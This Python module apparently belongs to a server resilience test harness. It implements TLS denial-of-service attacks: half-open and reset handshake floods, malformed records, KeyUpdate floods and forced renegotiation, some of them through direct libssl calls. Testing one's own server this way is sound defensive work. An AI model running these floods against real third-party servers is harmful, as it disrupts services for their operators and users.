"""Attacks on TLS: handshakes that lead nowhere, and messages that cost the server a key each."""

import ctypes
import os
import socket
import ssl
import struct
import time

from attacking import attack
from connection_attacks import HANDSHAKE_SECONDS, source, trickle

SECONDS = 3


def client_hello(target):
    """The first flight of a client, to be sent again and again without any work."""
    received, sent = ssl.MemoryBIO(), ssl.MemoryBIO()
    session = target.context(("h2",)).wrap_bio(received, sent, server_hostname="localhost")
    try:
        session.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return sent.read()


@attack(attackers=1, is_slow=True)
def half_open_handshakes(target):
    """Connections that never say hello, that stop within it, and that never finish."""
    hello, sockets = client_hello(target), []
    for number in range(300):
        raw = target.raw_socket(source(number))
        raw.sendall([b"", hello[:100], hello][number % 3])
        raw.setblocking(False)
        sockets.append(raw)
        target.sent += 1
    return trickle(target, sockets, HANDSHAKE_SECONDS, b"")


@attack
def handshake_flood(target):
    """Hellos that make the server sign, from clients that are gone before it has; sheer volume, so it may go on."""
    hello, deadline, answered = client_hello(target), time.monotonic() + SECONDS, 0
    while time.monotonic() < deadline:
        raw = target.raw_socket(source(target.sent))
        # Closing sends a reset.
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        raw.sendall(hello)
        answered += bool(raw.recv(1))
        raw.close()
        target.sent += 1
    return f"held: {answered} answered"


@attack
def handshake_garbage(target):
    """What is no hello ends the connection."""
    deadline = time.monotonic() + SECONDS
    for number in range(500):
        if time.monotonic() > deadline:
            break
        raw = target.raw_socket(source(target.sent))
        # Alerts, data before keys, lengths of nothing, another version, too long a record.
        raw.sendall([b"\x15\x03\x01\0\x02\x01\0" * 50, b"\x17\x03\x03\x40\0" + os.urandom(16384), b"\x16\x03\x01\0\0" * 500,
                     b"\x80\x2e\x01\x00\x02" + b"\0" * 43, b"\x16\x03\x01\xff\xff" + b"\x01" * 65535][number % 5])
        raw.settimeout(5)
        try:
            while raw.recv(65536):
                pass
        except TimeoutError:
            return "not closed"
        except OSError:
            pass
        raw.close()
        target.sent += 1
    return "closed"


class OpenSSL:
    """libssl itself, for what Python's module keeps away from its users."""

    def __init__(self):
        self.library = ctypes.CDLL("libssl.so.3")
        for name in ["TLS_client_method", "SSL_CTX_new", "SSL_new"]:
            getattr(self.library, name).restype = ctypes.c_void_p

    def connect(self, raw, version):
        """A session on a connected socket, without a look at the certificate."""
        library = self.library
        context = ctypes.c_void_p(library.SSL_CTX_new(ctypes.c_void_p(library.TLS_client_method())))
        for command in (123, 124):  # SSL_CTRL_SET_MIN_PROTO_VERSION, SSL_CTRL_SET_MAX_PROTO_VERSION
            library.SSL_CTX_ctrl(context, command, ctypes.c_long(version), None)
        session = ctypes.c_void_p(library.SSL_new(context))
        library.SSL_set_fd(session, raw.fileno())
        if library.SSL_connect(session) != 1:
            raise OSError("no handshake")
        return session


@attack
def key_update_flood(target):
    """RFC 8446, section 4.6.3: each costs the server two keys and an answer, and nobody limits them."""
    openssl = OpenSSL()
    raw = target.raw_socket()
    raw.setblocking(True)
    session = openssl.connect(raw, 0x0304)
    for _ in range(5000):
        if openssl.library.SSL_key_update(session, 1) != 1 or openssl.library.SSL_do_handshake(session) != 1:
            return "closed"
        target.sent += 1
    raw.settimeout(5)
    try:
        while raw.recv(65536):
            pass
        return "closed"
    except TimeoutError:
        return "not closed"
    except OSError:
        return "closed"


@attack
def renegotiation(target):
    """TLS 1.2: a handshake after the handshake, at the client's wish."""
    openssl = OpenSSL()
    raw = target.raw_socket()
    raw.setblocking(True)
    session = openssl.connect(raw, 0x0303)
    target.sent += 1
    openssl.library.SSL_renegotiate(session)
    for _ in range(3):
        if openssl.library.SSL_do_handshake(session) != 1:
            return "closed"
    buffer = ctypes.create_string_buffer(1)
    openssl.library.SSL_read(session, buffer, 1)
    return "closed" if not openssl.library.SSL_renegotiate_pending(session) else "not refused"
